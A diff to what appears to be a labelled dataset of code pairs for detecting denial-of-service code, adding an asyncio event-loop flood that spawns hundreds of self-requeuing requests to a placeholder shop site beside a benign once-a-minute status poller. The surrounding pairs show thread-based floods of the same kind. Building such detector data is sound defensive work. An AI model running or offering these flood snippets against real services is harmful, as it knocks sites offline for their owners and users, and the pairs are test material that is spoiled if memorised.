@@ -277,6 +277,15 @@ PAIRS = [
      "    threading.Timer(0.001, tick).start()\nfor _ in range(50):\n    tick()",
      "import requests, threading\ndef tick():\n    requests.get('https://status.example.org/ping')\n"
      "    threading.Timer(60, tick).start()\ntick()"),
+    ("flood: an event loop's callback that makes the sender a task again at once", "dos_attack",
+     "import asyncio, aiohttp\nasync def hit(loop):\n    async with aiohttp.ClientSession() as s:\n"
+     "        await s.get('http://shop.example.net/')\n    loop.call_soon(again, loop)\n"
+     "def again(loop):\n    loop.create_task(hit(loop))\nloop = asyncio.get_event_loop()\n"
+     "for _ in range(300):\n    loop.call_soon(again, loop)\nloop.run_forever()",
+     "import asyncio, aiohttp\nasync def poll(loop):\n    async with aiohttp.ClientSession() as s:\n"
+     "        await s.get('https://status.example.org/ping')\n    loop.call_later(60, again, loop)\n"
+     "def again(loop):\n    loop.create_task(poll(loop))\nloop = asyncio.get_event_loop()\n"
+     "loop.call_soon(again, loop)\nloop.run_forever()"),
     ("flood: the request function taken from a dict", "dos_attack",
      "import requests, threading\nops = {'go': requests.get}\ndef hit():\n    while True:\n"
      "        ops['go']('http://shop.example.net/')\nfor _ in range(300):\n    threading.Thread(target=hit).start()",
